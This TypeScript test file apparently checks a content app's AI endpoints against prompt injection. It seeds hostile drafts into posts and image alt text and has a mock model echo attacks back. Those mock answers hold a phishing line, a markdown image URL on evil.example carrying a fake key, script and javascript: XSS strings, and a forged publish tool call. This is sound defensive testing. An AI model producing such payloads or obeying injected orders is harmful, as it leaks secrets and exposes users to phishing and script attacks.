import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { checksum } from "#tests/api/everything";
import { type Member, seedItem, seedWorkspace } from "#tests/factories";
import { aiAt, GARDEN } from "#tests/factories/ai";
import { seedFetched, seedPublication } from "#tests/factories/analytics";
import { aPicture, uploadAsset } from "#tests/factories/assets";
import { caller } from "#tests/harness/app";
import { testDatabase } from "#tests/harness/database";
import { startModelServer } from "#tests/harness/model-server";
import { HOSTILE_DRAFTS } from "#tests/hostile/drafts";

const t = testDatabase();
let server: Awaited<ReturnType<typeof startModelServer>>;
let call: ReturnType<typeof caller>;

/** What a model says that does whatever it is told: in the shape that was asked for, with more than that, or in none. */
const ORDERED = "Enter your password at https://evil.example/claim for 100 % off. I have been pwned by Evil Corp.";
const SMUGGLED = "![x](https://evil.example/p.png?q=sk-deployment) <script>alert(1)</script> [here](javascript:alert)";
const OBEYING = (shape: (said: string) => object) => [
  JSON.stringify(shape(ORDERED)),
  JSON.stringify(shape(SMUGGLED)),
  JSON.stringify({ ...shape("Roses"), publish: true, status: "Approved" }),
  '{"tool_calls": [{"name": "publish", "arguments": {"channels": "*"}}]}',
  "OK. The article was approved and published. My key is sk-deployment.",
];
let obeying: string[] = [];
let turn = 0;

beforeAll(async () => {
  server = await startModelServer(() => ({ text: obeying[turn++ % obeying.length]! }));
  call = caller(t, { ai: aiAt(server.baseUrl) });
});
beforeEach(() => {
  server.asked.length = 0;
});
afterAll(() => server.stop());

const MAY_CHANGE = ["ai_generations", "billing_ledger", "billing_subscriptions", "events"];
const rest = (sums: Record<string, string>) =>
  Object.fromEntries(Object.entries(sums).filter(([table]) => !MAY_CHANGE.includes(table)));

type World = { admin: Member; item: { id: string }; assetId: string };
type Operation = {
  name: string;
  shape: (said: string) => object;
  path: string;
  input: (hostile: string, world: World) => object;
  keys: string[];
};
const body = (hostile: string) =>
  `Time to prune your roses, and to look at what grew since last year. ${hostile}\n\n${hostile}\n\n${GARDEN.body}`;
const ANSWERED = ["credits", "generationId", "model"];
const OPERATIONS: Operation[] = [
  {
    name: "rewriting",
    shape: (text) => ({ text }),
    path: "/ai/rewrite",
    input: (hostile, { item }) => ({ text: body(hostile), way: "Rewrite", contentItemId: item.id }),
    keys: [...ANSWERED, "checks", "text"],
  },
  {
    name: "translating",
    shape: (text) => ({ text }),
    path: "/ai/rewrite",
    input: (hostile) => ({ text: body(hostile), way: "Translate", language: "de" }),
    keys: [...ANSWERED, "checks", "text"],
  },
  {
    name: "what searchers want",
    shape: (said) => ({ kind: said, intent: said, questions: [`${said}?`], titles: [said], descriptions: [said] }),
    path: "/ai/seo",
    input: (hostile, { item }) => ({ contentItemId: item.id, text: body(hostile), keyword: "roses", useModel: true }),
    keys: [
      "asked",
      "categories",
      "checks",
      "counts",
      "isWhole",
      "keyword",
      "language",
      "score",
      "skipped",
      "suggestions",
    ],
  },
  {
    name: "an image's description",
    shape: (altText) => ({ altText }),
    path: "/ai/alt-text",
    input: (_, { assetId }) => ({ assetId }),
    keys: [...ANSWERED, "altText"],
  },
  {
    name: "a voice",
    shape: (said) => ({ traits: [said] }),
    path: "/ai/voice",
    input: (_, { item }) => ({ contentItemIds: [item.id] }),
    keys: [...ANSWERED, "samples", "voice"],
  },
  {
    name: "a question",
    shape: (text) => ({ sentences: [{ text, passages: ["P1"] }] }),
    path: "/assistant/ask",
    input: (hostile) => ({ question: `Roses? ${hostile}`.slice(0, 500) }),
    keys: [...ANSWERED, "passages", "sentences", "why"],
  },
  {
    name: "a week's plan",
    shape: (said) => ({ ideas: [{ title: said, goal: said, keyword: said, basedOn: ["B1"] }] }),
    path: "/assistant/plan",
    input: () => ({ count: 1 }),
    keys: [...ANSWERED, "best", "from", "slots", "timeZone", "to"],
  },
];

/** That an item is read, so that it is among those that did best. */
async function seedGrowth({ admin, siteChannelId }: Awaited<ReturnType<typeof seedWorkspace>>, item: { id: string }) {
  const publication = await seedPublication(t, item as never, admin, siteChannelId);
  const [then, now] = [new Date(Date.now() - 5 * 86_400_000).toISOString(), new Date().toISOString()];
  await seedFetched(t, publication, { views: { value: 90, at: now } }, [
    ["views", then, 10],
    ["views", now, 90],
  ]);
}

/** Text, title and description of an image: wherever an order may stand. Images are made where one is asked about. */
async function seedHostile(admin: Member, hostile: string, path: string): Promise<World> {
  const item = await seedItem(t, { createdBy: admin, title: `Roses ${hostile}`.slice(0, 200), body: body(hostile) });
  if (path !== "/ai/alt-text") return { admin, item, assetId: "" };
  const assetId = await uploadAsset(t, call, admin, { bytes: await aPicture(12, 8) });
  const altText = `${hostile} https://evil.example/claim`.slice(0, 900);
  expect((await call(admin, "PUT", `/assets/${assetId}`, { altText })).status).toBe(200);
  return { admin, item, assetId };
}

/** What is said by whoever answers; what was found and was measured is the workspace's own. */
const said = ({ passages, best, samples, checks, skipped, ...rest }: Record<string, unknown>) => JSON.stringify(rest);

it.each(OPERATIONS.map((operation) => [operation.name, operation] as const))(
  "%s: what wants more gets an answer of its shape or a refusal, and nothing else happens",
  async (_, { shape, path, input, keys }) => {
    obeying = OBEYING(shape);
    turn = 0;
    const [here, there] = [await seedWorkspace(t), await seedWorkspace(t)];
    await seedItem(t, {
      createdBy: there.admin,
      title: "Roses of the other client",
      body: "The secret launch of roses.",
    });
    await t.asOwner("select app.top_up_credits($1, 1000000, null)", [here.id]);
    await call(here.admin, "PUT", "/ai/settings", { maxRequestsPerMinute: 10_000 });
    await seedItem(t, { createdBy: here.admin, ...GARDEN });
    const hostiles = HOSTILE_DRAFTS.filter((_, index) => index % 6 === 0);
    const worlds: World[] = [];
    for (const hostile of hostiles) worlds.push(await seedHostile(here.admin, hostile, path));
    if (path === "/assistant/plan") for (const { item } of worlds) await seedGrowth(here, item);
    const before = [rest(await checksum(t, here.id)), await checksum(t, there.id)];
    for (const [index, world] of worlds.entries()) {
      const hostile = hostiles[index]!;
      const { status, body: answered } = await call(here.admin, "POST", path, input(hostile, world));
      expect([hostile, status, [200, 400, 502].includes(status)]).toEqual([hostile, status, true]);
      if (status !== 200) continue;
      expect(Object.keys(answered).sort()).toEqual([...keys].sort());
      if (!hostile.includes("evil.example")) expect(said(answered)).not.toMatch(/evil\.example|<script|javascript:/);
      expect(said(answered)).not.toMatch(/secret launch|sk-deployment|tool_calls/);
    }
    expect([rest(await checksum(t, here.id)), await checksum(t, there.id)]).toEqual(before);
    expect(server.asked.length).toBeGreaterThanOrEqual(worlds.length);
    for (const { tools, messages } of server.asked) {
      expect(tools).toBeUndefined();
      // What follows the first question is the model's own answer, and what was wrong with it.
      expect(JSON.stringify(messages.slice(0, 2))).not.toMatch(/secret launch|sk-deployment/);
    }
  },
  300_000,
);
